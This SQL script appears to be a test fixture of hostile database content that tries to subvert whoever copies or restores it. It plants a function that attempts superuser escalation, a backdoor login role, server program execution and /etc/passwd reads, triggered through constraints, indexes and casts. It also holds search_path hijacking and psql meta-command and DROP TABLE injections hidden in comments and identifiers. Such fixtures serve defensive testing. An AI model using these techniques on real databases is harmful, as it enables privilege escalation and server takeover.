-- What a customer can put into a database of their own, to be run by whoever copies it. Run by the database's owner.
-- `witness` holds what the function saw: who it ran as.
CREATE TABLE witness (who text, session text, super text, path text);
CREATE FUNCTION do_evil(text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN RESET SESSION AUTHORIZATION; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN SET ROLE postgres; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE format('ALTER ROLE %I SUPERUSER', $1); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE format('GRANT postgres TO %I', $1); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE format('GRANT pg_execute_server_program TO %I', $1); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN CREATE ROLE th_backdoor LOGIN PASSWORD 'open'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN COPY public.witness TO PROGRAM 'touch /tmp/transhumance-escaped'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN COPY public.witness TO '/tmp/transhumance-escaped'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN PERFORM pg_catalog.pg_read_file('/etc/passwd'); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    CREATE FUNCTION public.pwned() RETURNS void LANGUAGE c AS 'libc.so.6', 'abort';
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $$;
-- Said to be immutable, so that it may stand in an index; what it calls is not.
CREATE FUNCTION evil(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$BEGIN RETURN public.do_evil($1); END $$;
-- A CHECK runs while rows are loaded; an index expression and a predicate while an index is built, and (with constant
-- arguments) whenever a query on the table is planned; a default while a column is added; a view when it is refreshed.
CREATE TABLE checked (a text CHECK (public.evil(a)), b text DEFAULT public.evil('x')::text);
CREATE TABLE indexed (a text);
INSERT INTO indexed VALUES (:'me'), ('th_nobody');
INSERT INTO checked (a) VALUES (:'me');
CREATE INDEX ON indexed (public.evil(a));
CREATE INDEX ON indexed (a) WHERE public.evil(:'me');
CREATE INDEX ON checked ((public.evil(:'me')));
CREATE MATERIALIZED VIEW refreshed AS SELECT public.evil(a) FROM public.indexed;
CREATE FUNCTION hostile_text(indexed) RETURNS text LANGUAGE sql AS $$SELECT public.evil('x')::text$$;
CREATE CAST (indexed AS text) WITH FUNCTION hostile_text(indexed);
CREATE SCHEMA cat_pg;
CREATE FUNCTION cat_pg.count() RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint';
ALTER ROLE CURRENT_USER SET search_path = cat_pg, public, pg_catalog;
COMMENT ON TABLE indexed IS E'\n\\! touch /tmp/transhumance-escaped\n\\c postgres postgres\n';
COMMENT ON FUNCTION do_evil IS E'*/ \\! touch /tmp/transhumance-escaped';
CREATE TABLE "x
\! touch /tmp/transhumance-escaped
-- " ("a
DROP TABLE indexed; --" int);
